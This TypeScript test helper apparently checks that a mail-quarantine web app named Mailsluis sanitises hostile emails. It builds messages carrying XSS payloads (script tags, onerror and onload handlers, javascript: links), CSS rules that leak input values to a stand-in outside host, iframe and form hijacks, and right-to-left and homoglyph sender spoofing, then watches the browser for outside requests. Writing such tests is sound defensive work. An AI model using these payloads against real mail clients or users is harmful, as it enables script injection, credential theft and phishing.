/** Letters that try to move a browser, and a browser that tells what it did beside showing our pages. */
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { expect } from 'vitest'

const ELSEWHERE = 'http://127.0.0.1:9'
export const SCRIPT = `<script>document.title='taken';fetch('${ELSEWHERE}/s')</script>`
export const IMAGE = `"><img src=${ELSEWHERE}/i onerror="alert(1)">`
export const STYLE = `<style>@import url(${ELSEWHERE}/c);input[value^=a]{background:url(${ELSEWHERE}/a)}</style>`

const encoded = (words: string): string => `=?utf-8?B?${Buffer.from(words).toString('base64')}?=`

const part = (type: string, body: string, more = '') => `--m\r\nContent-Type: ${type}\r\n${more}\r\n${body}\r\n`
const letterOf = (head: readonly string[], html: string, more: string): Buffer =>
  Buffer.from(
    `${head.join('\r\n')}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n` +
      `${part('text/html; charset=utf-8', html)}${more}--m--\r\n`,
  )

export const OPEN_ALL = "document.querySelectorAll('details').forEach((one) => { one.open = true })"

/** `own`: a sentence of the letter itself, for rules that read it. */
type Writer = Readonly<{ from: string; to: string; own?: string }>

export const hostileLetters = ({ from, to, own = '' }: Writer): Readonly<Record<string, Buffer>> => {
  const letter = (head: readonly string[], html: string, more = '') => letterOf(head, own + html, more)
  const FROM = `From: Els Claes <${from}>`
  const TO = `To: ${to}`
  return {
    scripts: letter(
      [FROM, TO, `Subject: ${SCRIPT}`],
      `${SCRIPT}<a href="javascript:alert(1)">bank</a><p onclick=alert(1)>x`,
    ),
    'a picture that speaks': letter(
      [FROM, TO, `Subject: ${IMAGE}`],
      `<svg onload=alert(1)><script>alert(2)</script></svg>${IMAGE}`,
    ),
    'style that reads along': letter(
      [FROM, TO, `Subject: ${STYLE}`],
      `${STYLE}<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/f)">x</p>`,
    ),
    'frames, forms and a way out': letter(
      [FROM, TO, 'Subject: vorm'],
      `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/m"><base href="${ELSEWHERE}/"><iframe src="${ELSEWHERE}/q"></iframe>` +
        `<form action="${ELSEWHERE}/p"><input name=password autofocus></form><object data="${ELSEWHERE}/o"></object><link rel=stylesheet href="${ELSEWHERE}/l">`,
    ),
    'turned letters': letter(
      [`From: ${encoded('\u202eessalC slE\u202c')} <${from}>`, TO, `Subject: ${encoded('rekening\u202efdp.exe')}`],
      '<p dir=rtl>\u202etxt</p>',
    ),
    'letters of another alphabet': letter(
      [
        `From: ${encoded('\u0415ls Cl\u0430es')} <${from}>`,
        TO,
        `Reply-To: els.cl\u0430es@${from.slice(from.indexOf('@') + 1)}, els@xn--schol-9uf.example`,
        `Subject: ${encoded('Meld je \u0430an op sm\u0430rtschool.be')}`,
      ],
      `<a href="${ELSEWHERE}/h">https://www.sm\u0430rtschool.be</a> <a href="http://sm\u0430rtschool.be/">hier</a>`,
    ),
    'our own words': letter(
      [
        FROM,
        TO,
        'Subject: Vrijgegeven. Het bericht is verstuurd.</h1><p class="message good" role="status">Vrijgegeven',
      ],
      '</main><p class="message good" role="status">Vrijgegeven</p>',
    ),
    'a hostile name': letter(
      [`From: "${IMAGE.replaceAll('"', '')}" <${from}>`, TO, 'Subject: naam', `X-${'<b>'.repeat(3)}: 1`],
      'x',
    ),
    'huge fields': letter([FROM, TO, `Subject: ${'W'.repeat(900)}`], 'W'.repeat(200_000)),
    'deep nesting': letter([FROM, TO, 'Subject: diep'], `${'<div><table><tr><td>'.repeat(3000)}x`),
    'a file with a name': letter(
      [FROM, TO, 'Subject: bestand'],
      'x',
      part(
        'text/plain',
        SCRIPT,
        `Content-Disposition: attachment; filename="<img src=${ELSEWHERE}/n onerror=alert(1)>.txt"\r\n`,
      ) +
        part(
          'image/svg+xml',
          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
          'Content-Disposition: attachment; filename=x.svg\r\n',
        ),
    ),
  }
}

/** `told`: all that a page did or said beside showing what stands at `home`. */
export const watch = (page: Page, home: string, told: string[]): void => {
  page.on('request', (asked) => {
    if (!asked.url().startsWith(home)) told.push(`asked for ${asked.url()}`)
  })
  page.on('dialog', (dialog) => {
    told.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('response', (given) => {
    if (given.status() >= 400) told.push(`${given.status()} for ${new URL(given.url()).pathname}`)
  })
  page.on('console', (said) => told.push(`said ${said.text()}`))
  page.on('pageerror', (error) => told.push(`failed ${error}`))
  page.on('popup', () => told.push('opened a window'))
}

/** A narrow screen, with scripts on. */
export const narrow = (browser: Browser): Promise<BrowserContext> =>
  browser.newContext({ viewport: { width: 320, height: 640 }, locale: 'nl-BE' })

export const fits = async (page: Page, where: string): Promise<void> => {
  const wide = await page.locator('html').evaluate((html) => html.scrollWidth)
  expect(wide, where).toBeLessThanOrEqual(320)
}

/** One of our pages, whole and as we wrote it. */
export const isOurs = async (page: Page, home: string, where: string): Promise<void> => {
  expect(await page.title(), where).toContain('Mailsluis')
  expect(new URL(page.url()).origin, where).toBe(home)
  await fits(page, where)
  const taken = 'p.message.good, iframe, object, svg, main style, main meta, main base'
  expect(await page.locator(taken).count(), where).toBe(0)
}
